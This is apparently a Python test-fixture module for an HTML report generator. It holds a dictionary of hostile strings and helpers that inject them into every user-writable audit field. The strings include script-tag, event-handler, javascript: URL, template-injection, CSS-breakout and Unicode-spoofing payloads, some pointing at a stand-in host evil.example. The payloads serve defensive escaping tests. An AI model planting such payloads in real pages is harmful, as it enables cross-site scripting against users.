"""Records for the tests of the HTML report: hostile ones, and large ones."""

from __future__ import annotations

from collections import Counter
from collections.abc import Collection, Iterable
from typing import Any, TypeVar

from pydantic import BaseModel

from claimaudit.record.claims import ClaimRecord
from claimaudit.record.models import Audit, Counts
from claimaudit.workspace.claims import Searched
from claimaudit.workspace.policy import VERDICTS

Entry = TypeVar("Entry", bound=BaseModel)

# Each must be shown as the text that it is, and run, load, hide or reorder nothing.
HOSTILE = {
    "script": "<script>window.pwned=1</script>",
    "script upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "end of script": "</script><script>window.pwned=1</script>",
    "end of style": "</style><script>window.pwned=1</script>",
    "end of title": "</title><script>window.pwned=1</script>",
    "end of textarea": "</textarea><img src=x onerror=window.pwned=1>",
    "image": '<img src=x onerror="window.pwned=1">',
    "image slash": "<img/src=x/onerror=window.pwned=1>",
    "svg": "<svg onload=window.pwned=1>",
    "svg animate": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "math": "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
    "iframe": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": "<object data='https://evil.example/x.swf'></object>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href=https://evil.example/>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "form": "<form action=https://evil.example><button>x</button></form>",
    "comment": "<!--><script>window.pwned=1</script>-->",
    "conditional": "<![CDATA[<script>window.pwned=1</script>]]>",
    "quote out": "\"><script>window.pwned=1</script>",
    "single quote out": "'><script>window.pwned=1</script>",
    "handler": "\" onmouseover=window.pwned=1 x=\"",
    "handler bare": " onfocus=window.pwned=1 autofocus tabindex=0 ",
    "backtick": "`onmouseover=window.pwned=1`",
    "slash": "</details></div></main><h1>Verdict: supported</h1>",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "numeric entity": "&#60;script&#62;window.pwned=1",
    "jinja": "{{ 7 * 7 }}{% for x in () %}{% endfor %}{# x #}",
    "jinja escape": "{{ ''.__class__.__mro__ }}",
    "format": "{0.__class__} {publisher} {n!r} %s %(x)s ${x}",
    "javascript": "javascript:window.pwned=1",
    "javascript tab": "java\tscript:window.pwned=1",
    "data url": "data:text/html,<script>window.pwned=1</script>",
    "vbscript": "vbscript:msgbox(1)",
    "css": "}</style>*{background:url(https://evil.example)}",
    "css string": '";}body{display:none}/*',
    "css escape": "\\22 ;}body{display:none}",
    "rtl override": "4.6 PF\u202e3.2 PF\u202c",
    "rtl isolate": "\u2067supported\u2069",
    "arabic mark": "\u061c12%",
    "hebrew": "אבג 4.6 דהו",
    "zero width": "sup\u200bported\u200d\ufeff",
    "separators": "a\u2028b\u2029c",
    "controls": "a\x00b\x07c\x1bd\x7fe\x85f",
    "tags": "4.6\U000e0041\U000e007f",
    "soft hyphen": "sup\u00adported",
    "surrogate": "a\ud800b",
    "long": "A" * 5000,
    "json": '\\u003c","x":{"__proto__":1}',
    "hash": "#v_glance",
    "space id": "a b c",
}  # fmt: skip


def _with(entries: Iterable[Entry], **keys: Any) -> list[Entry]:
    """Copies with other values, which nothing checks: what a page may not rely on."""
    return [entry.model_copy(update=keys) for entry in entries]


def _all(text: str, *keys: str) -> dict[str, str]:
    return dict.fromkeys(keys, text)


def everywhere(audit: Audit, text: str) -> tuple[Audit, dict[str, str]]:
    """(audit, texts) with `text` wherever somebody outside could write."""
    names = {"zh": text, "en": f"{text} en"}
    searched = Searched.model_construct(where=[text], on=text)
    claims = [
        claim.model_copy(
            update={
                **_all(text, "quote", "figure", "said_by", "as_of", "note", "file"),
                "conditions": {"scope": text, text: "chip"},
                "searched": searched,
                "start": 0,
                "end": len(text),
                "trials": _with(claim.trials, steps=text, conditions={"scope": text}),
            }
        )
        for claim in audit.claims
    ]
    facts = _all(text, "locator", "printed", "unit_from", "why", "note", "file")
    documents = _all(text, "publisher", "title", "url", "note", "published", "retrieved")
    articles = _all(text, "title", "author", "publisher", "rights", "note", "url_as_printed", "url")
    changed = audit.model_copy(
        update={
            "claims": claims,
            "articles": _with(audit.articles, **articles),
            "facts": _with(audit.facts, **facts, conditions={"scope": text}),
            "documents": _with(audit.documents, **documents),
            "subjects": _with(audit.subjects, **names),
            "metrics": _with(audit.metrics, **names),
            "reasons": {c: r.model_copy(update=names) for c, r in audit.reasons.items()},
            "arithmetic": _with(audit.arithmetic, why=text, left=text),
            "findings": _with(audit.findings, file=text),
        }
    )
    return changed, {a.id: f"{text}\n{text} tail\n" for a in audit.articles}


def renamed(audit: Audit, text: str) -> Audit:
    """The audit with `text` as the id of its first claim."""
    first, *others = audit.claims
    return audit.model_copy(update={"claims": [*_with([first], id=text), *others]})


def multiplied(audit: Audit, times: int) -> Audit:
    """The audit with every claim `times` over, under new ids."""
    claims = [
        c.model_copy(update={"id": f"{c.id}.{n}"}) for n in range(times) for c in audit.claims
    ]
    return _of(audit, claims, audit.articles).model_copy(update={"arithmetic": []})


def reduced(audit: Audit, claims: list[ClaimRecord]) -> Audit:
    """The audit of a few claims: their articles, facts and documents, and no others."""
    known, articles = {c.id for c in claims}, {c.article for c in claims}
    named = {f for c in claims for trial in c.trials for f in trial.facts}
    facts = _of_ids(audit.facts, named | {a.fact for c in claims for a in c.apart})
    documents = {d for f in facts for d in (p.document for p in f.prints)}
    rows = known | documents | {f.id for f in facts}
    changed = _of(audit, claims, _of_ids(audit.articles, articles))
    return changed.model_copy(
        update={
            "arithmetic": [s for s in audit.arithmetic if {*s.terms.values(), *s.blames} <= known],
            "facts": facts,
            "documents": _with(_of_ids(audit.documents, documents), origin=None, copy_of=None),
            "findings": [f for f in audit.findings if f.row in rows],
        }
    )


def _of_ids(entries: Iterable[Any], ids: Collection[str]) -> list[Any]:
    return [entry for entry in entries if entry.id in ids]


def _of(audit: Audit, claims: list[ClaimRecord], articles: Iterable[Any]) -> Audit:
    """The audit of these claims and articles, with their counts."""
    counted = [
        a.model_copy(update={"counts": _counts(c for c in claims if c.article == a.id)})
        for a in articles
    ]
    return audit.model_copy(
        update={"claims": claims, "articles": counted, "counts": _counts(claims)}
    )


def _counts(claims: Iterable[ClaimRecord]) -> Counts:
    found = Counter(claim.verdict for claim in claims)
    return {verdict: found[verdict] for verdict in VERDICTS}
